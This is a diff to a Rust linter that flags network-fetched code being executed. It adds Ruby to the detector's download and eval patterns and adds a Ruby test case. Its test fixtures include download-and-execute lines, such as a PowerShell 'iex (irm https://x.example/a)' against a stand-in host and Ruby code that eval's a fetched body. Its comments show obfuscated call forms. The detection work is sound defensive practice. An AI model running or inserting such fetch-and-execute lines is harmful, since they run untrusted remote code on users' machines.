@@ -1,4 +1,4 @@
-//! Code fetched from the network and run, in Python, JavaScript/TypeScript and PowerShell: each
+//! Code fetched from the network and run, in Python, JavaScript/TypeScript, PowerShell and Ruby: each
 //! statement is folded first ([`super::fold`]), so that `getattr(os, "sy"+"stem")`,
 //! `require("child_"+"process")["exec"+"Sync"]` and `& ([char]105+[char]101+[char]120)` read as
 //! the calls they are; names assigned from a download (`r = urlopen(u)`, `const t = await
@@ -34,7 +34,7 @@ pub struct Flow {
 
 static FETCH: LazyLock<Regex> = LazyLock::new(|| {
     crate::lint::exec::ascii_regex(
-        r#"\b(urlopen|urlretrieve|requests\.(get|post|request)|httpx\.(get|post|request)|http\.client|aiohttp|fetch|axios(\.get)?|https?\.get|got|undici\.request|require\(\s*['"](node:)?https?['"]\s*\)\s*\.\s*(get|request))\s*[(.]|\.(get|request)\s*\(\s*['"`]https?://"#,
+        r#"\b(urlopen|urlretrieve|requests\.(get|post|request)|httpx\.(get|post|request)|http\.client|aiohttp|fetch|axios(\.get)?|https?\.get|got|undici\.request|require\(\s*['"](node:)?https?['"]\s*\)\s*\.\s*(get|request)|Net::HTTP\.(get|get_response|start)|URI\.open|HTTParty\.(get|post)|Faraday\.(get|post)|RestClient\.(get|post)|Excon\.get)\s*[(.]|\.(get|request)\s*\(\s*['"`]https?://"#,
     )
 });
 
@@ -65,6 +65,7 @@ fn fetches(code: &str, lang: Lang) -> bool {
 static EXEC: LazyLock<Regex> = LazyLock::new(|| {
     crate::lint::exec::ascii_regex(
         r"(?x)\b(exec|eval|execfile|runpy\.run_\w+|os\.system|os\.popen|os\.exec\w+|subprocess\.\w+|commands\.getoutput|pty\.spawn
+        |instance_eval|class_eval|module_eval|Kernel\.eval
         |new\s+Function|Function|execSync|execFileSync|spawnSync|spawn|execFile|vm\.runIn\w+|vm\.Script|child_process\.\w+|Deno\.run|Bun\.spawn|Bun\.\$
         |(?i:iex|invoke-expression|start-process|invoke-item))\b\s*[\s(.`),]",
     )
@@ -318,6 +319,10 @@ mod tests {
                 Lang::PowerShell,
             ),
             ("iex (irm https://x.example/a)", Lang::PowerShell),
+            (
+                "def load\n  body = Net::HTTP.get(URI(SRC))\n  eval(body, TOPLEVEL_BINDING)\nend",
+                Lang::Ruby,
+            ),
         ] {
             assert!(runs(code, lang), "missed: {code}");
         }
